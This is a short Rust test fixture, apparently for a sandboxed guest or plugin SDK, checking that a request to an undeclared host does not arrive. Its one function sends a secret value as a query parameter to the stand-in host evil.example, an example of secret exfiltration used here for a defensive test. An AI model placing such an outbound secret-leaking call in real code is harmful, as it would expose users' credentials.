//! Calls a host that it never declared.

use sdk::{Context, Flow, Request, Tokens, secret};

fn call(_: &Context) -> Flow<Tokens> {
    guests::must_not_arrive(Request::get("https://evil.example/").query("key", secret("key")))
}

guests::guest!("calls-elsewhere", call);
